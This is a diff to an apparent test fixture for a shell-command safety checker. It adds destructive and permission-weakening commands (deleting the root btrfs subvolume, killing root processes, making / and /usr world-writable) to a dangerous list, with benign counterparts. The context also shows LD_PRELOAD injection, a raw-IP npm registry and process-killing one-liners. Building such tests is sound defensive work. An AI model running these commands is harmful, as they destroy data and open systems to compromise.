@@ -161,6 +161,10 @@ DANGEROUS = {
         "export LD_PRELOAD=/tmp/x.so; sudo -E ls", "LD_PRELOAD=/dev/shm/.h.so sudo id",
         "npm install --registry=https://198.51.100.5 lodash",
     ],
+    "subvolumes, users' processes, world-writable system folders": [
+        "sudo btrfs subvolume delete /", "sudo btrfs check --repair /dev/sdb1",
+        "sudo skill -KILL -u root", "sudo chmod 1777 /", "sudo chmod o+w /usr",
+    ],
     "more memory, processes, leaks and whole stores": [
         "python3 -c \"import psutil; [p.kill() for p in psutil.process_iter()]\"",
         "python3 -c \"x = ' ' * 10**12\"", "python3 -c 'b = bytearray(2**40)'",
@@ -245,7 +249,9 @@ HARMLESS = [
     "find ~/.cache -name '*.tmp' -exec rm {} \\;", "7z a backup.7z ./docs",
     "curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user",
     "history | tail -5", "sudo cp myapp.service /etc/systemd/system/",
-    "LD_LIBRARY_PATH=./build/lib ./build/app",
+    "LD_LIBRARY_PATH=./build/lib ./build/app", "sudo btrfs subvolume list /",
+    "sudo btrfs subvolume delete ./snapshots/old", "skill -STOP -t pts/3 vim",
+    "chmod 1777 ./shared-tmp",
     "npm install --registry=https://registry.npmjs.org x",
 ]
 
